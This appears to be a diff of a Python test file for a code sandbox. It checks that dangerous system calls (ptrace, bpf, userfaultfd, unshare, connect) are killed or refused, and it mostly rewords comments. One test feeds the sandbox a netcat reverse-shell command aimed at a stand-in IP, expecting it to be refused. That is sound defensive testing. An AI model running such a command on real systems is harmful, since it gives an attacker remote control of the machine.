@@ -1,8 +1,8 @@
 # SPDX-License-Identifier: MIT
-"""Cases 28 to 64 of VAREK, those of its C Warden, written anew through cordon.varek: one row each, with the
-one outcome that it must have. A payload prints HAPPENED where it got what it was after; each also runs outside
-the box, where it must get that or be refused by this host itself, so that none passes because it is written
-wrong. What tests VAREK's own insides is in NOT_OURS, with the reason."""
+"""Cases 28 to 64 of VAREK (its C Warden), written anew for cordon.varek: one row each, with the one outcome that it
+must have. A payload prints HAPPENED if it succeeds. Each payload also runs outside the box, where it must succeed or
+be refused by this host, so that no case passes because its payload is wrong. Cases that test VAREK's internals are
+in NOT_OURS, with the reason."""
 import os
 import re
 import socket
@@ -32,7 +32,7 @@ RACE = '''
 secret = SECRET.encode()
 fine = b'/tmp/' + (b'%d' % os.getpid()).ljust(len(secret) - 5, b'x')
 with open(fine, 'w') as f: f.write('fine')
-file = tempfile.TemporaryFile()  # not nameless memory: without a cgroup nobody could count it
+file = tempfile.TemporaryFile()  # not a memfd: without a cgroup its memory cannot be limited
 file.truncate(4096)
 shared = mmap.mmap(file.fileno(), 4096)
 path = ctypes.addressof(ctypes.c_char.from_buffer(shared))
@@ -67,7 +67,7 @@ class Row(NamedTuple):
     number: int
     what: str
     code: str
-    said: str  # what it prints; nothing if it is killed
+    said: str  # its output; empty if it is killed
     violation: Optional[str] = None
     denied: Tuple[str, ...] = ()
 
@@ -77,7 +77,7 @@ def killed(number: int, call: str, code: str, what: str = "") -> Row:
 
 
 def foreign(number: int, code: str) -> Row:
-    """The x32 ABI is x86_64's; elsewhere this is a number that no call has."""
+    """A call of the x32 ABI of x86_64. On another machine no system call has this number."""
     return Row(number, "a call of another ABI", code, "ENOSYS\n" if ARM else "", None if ARM else KILLED)
 
 
@@ -96,7 +96,7 @@ ROWS = [
     Row(39, "unshare, a user namespace", "tell(call('unshare', 0x10000000))", "EPERM\n", KILLED, ("unshare",)),
     Row(40, "getpid works", "print(call('getpid') == os.getpid())", "True\n"),
     Row(41, "a socket works", "tell(libc.socket(1, 1, 0))", "HAPPENED\n"),
-    # 42 to 46: VAREK's second filter, the same calls. A filter must hold for every thread: here another one makes them.
+    # 42 to 46: the same calls in another thread, because a filter must hold for every thread.
     killed(42, "ptrace", THREAD % PTRACE, "ptrace in a thread"),
     killed(43, "bpf", THREAD % BPF, "bpf in a thread"),
     killed(44, "userfaultfd", THREAD % FAULTS, "userfaultfd in a thread"),
@@ -107,15 +107,15 @@ ROWS = [
     Row(49, "a socket by its module", "a, b = socket.socketpair()\na.send(b'x')\nprint(b.recv(1))", "b'x'\n"),
     Row(50, "connect", "attempt(lambda: socket.create_connection(('127.0.0.1', PORT), 5))", "EPERM\n", None, ("socket",)),
 ]
-GATE = {51, 53, 54, 55, 56, 57, 62}  # the methods of Gate
+GATE = {51, 53, 54, 55, 56, 57, 62}  # tested by the methods of Gate
 NOT_OURS = {
-    28: "proves that a supervisor which lets a call go on by its path loses the race; nothing here decides so, and 29's control shows the race",
+    28: "shows the race of a supervisor that continues a call by its path; Cordon does not do that, and the control of 29 shows the race",
     52: "a plan is no argument of VAREK's Python API; cordon.plan: test_gate.py",
-    58: "code that cleans data makes no conversation clean in Cordon: test_gate.py, docs/TRUST.md",
-    59: "as 58: there is no way round a redactor where none counts",
+    58: "code that cleans data makes no conversation clean in Cordon: test_gate.py, docs/explanation/TRUST.md",
+    59: "as 58: no redactor makes a conversation clean",
     60: "VAREK's API has the network whole or not at all; hosts by name: tests/cli/egress.bats",
     61: "as 60",
-    63: "VAREK's breaker library; that what is refused stays refused is A12",
+    63: "VAREK's breaker library; A12 shows that refused code stays refused",
     64: "VAREK's lint of its own policy directives, and its C units",
 }
 HOST_MAY_REFUSE = {"EPERM", "EACCES", "ENOSYS", "ENOENT", "EOPNOTSUPP"}
@@ -139,13 +139,13 @@ class Cases(Case):
         return done.stdout.split()
 
     def test_all(self):
-        """28 to 64: each case is a row, a test, or has a reason"""
+        """28 to 64: each case is a row or a test, or has a reason in NOT_OURS"""
         told = sorted([r.number for r in ROWS] + sorted(GATE) + sorted(NOT_OURS))
         self.assertEqual(told, list(range(28, 65)))
         self.assertEqual({int(n) for m in dir(Gate) for n in re.findall(r"(?<=_)\d\d", m)}, GATE)
 
     def test_rows(self):
-        """28 to 50: nothing happened, and the outcome says what was tried"""
+        """28 to 50: no case succeeds, and the outcome names the call"""
         for row in ROWS:
             with self.subTest(row.number, what=row.what):
                 o = self.run_code(self.code(row))
@@ -157,9 +157,9 @@ class Cases(Case):
         self.assertEqual(os.listdir(self.path("open")), ["secret"])
 
     def test_control(self):
-        """28 to 50 outside the box: each gets what it is after, if this host lets anybody have it"""
+        """28 to 50 outside the box: each succeeds, unless this host refuses it"""
         for row in ROWS:
-            if 42 <= row.number <= 46:  # 32 and others again; and who is traced as a thread is never reaped
+            if 42 <= row.number <= 46:  # same calls as in 32 to 38; a traced thread is never reaped
                 continue
             with self.subTest(row.number, what=row.what):
                 said = self.outside(row)
@@ -171,7 +171,7 @@ class Cases(Case):
                     self.assertIn(said[0], HOST_MAY_REFUSE | {"HAPPENED"}, said)
 
     def test_chroot(self):
-        """a call of VAREK's kill list that the box only refuses is told as one"""
+        """a call of VAREK's kill list that the box refuses without a kill is reported as killed"""
         o = self.run_code(PRE + "tell(call('chroot', b'/tmp'))")
         self.assertEqual((o.stdout, o.exit_code, o.violation), (b"EPERM\n", 0, KILLED))
 
@@ -183,24 +183,24 @@ class Gate(Case):
         with self.assertRaises(varek.KineticIntercept) as e:
             backend.execute(varek.ExecutionPayload(PYTHON, code), self.policy())
         result = e.exception.__cause__.result
-        self.assertEqual((result.exit_code, result.layers, result.stdout), (None, (), b""))  # there was no box
+        self.assertEqual((result.exit_code, result.layers, result.stdout), (None, (), b""))  # no box was made
         return result
 
     def test_51_refused_53_free(self):
-        """51, 53: what is refused starts nothing; what is not needs no plan"""
+        """51, 53: refused code starts nothing; other code needs no plan"""
         stock = varek.SeccompBpfBackend(binary=BINARY, tier=TIER, state=self.path("state"))
         self.assertEqual(self.stopped(stock, "import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')").status, "refused")
         self.assertEqual(stock.execute(varek.ExecutionPayload(PYTHON, "print(1)"), self.policy()).stdout, b"1\n")
 
     def test_54_policy(self):
-        """54: a policy that cannot be read is told with its file and line, and nothing runs"""
+        """54: an error in a policy names its file and line, and nothing runs"""
         with open(self.path("bad.yaml"), "w") as f:
             f.write("version: 2\nnonsense: [\n")
         with self.assertRaisesRegex(varek.IsolationError, r"bad\.yaml:\d"):
             self.make(policy=self.path("bad.yaml")).execute(varek.ExecutionPayload(PYTHON, "print(1)"), self.policy())
 
     def test_55_clean_56_direct_57_composed_62_unknown(self):
-        """55, 56, 57, 62: clean code runs; later code of that conversation and unknown code run too, and reach no host"""
+        """55, 56, 57, 62: clean, exposed and unknown code runs, and reaches no host"""
         self.says("print(sum([1, 2]))", "3\n")
         client = self.client(user=False, rules=[self.path("rules")])
         conversation = client.new_conversation()
@@ -209,6 +209,6 @@ class Gate(Case):
         for code, options, origin in ((self.OBEYS, {"conversation": conversation}, "derived"),
                                       ("print('other code')", {"conversation": conversation}, "exposed"), (self.OBEYS, {}, "exposed")):
             r = client.run(code, net=[host], **options)
-            self.assertEqual((r.origin, [(e.outcome, e.done) for e in r.effects], r.egress), (origin, [("withheld", False)], ()))
-        o = self.run_code(self.OBEYS, network=True)  # its policy names no host
+            self.assertEqual((r.origin, [(e.outcome, e.done) for e in r.effects], r.egress), (origin, [("waits", False)], ()))
+        o = self.run_code(self.OBEYS, network=True)  # the policy names no host
         self.assertEqual((o.exit_code, b"URLError" in o.stderr), (1, True), o.stderr)
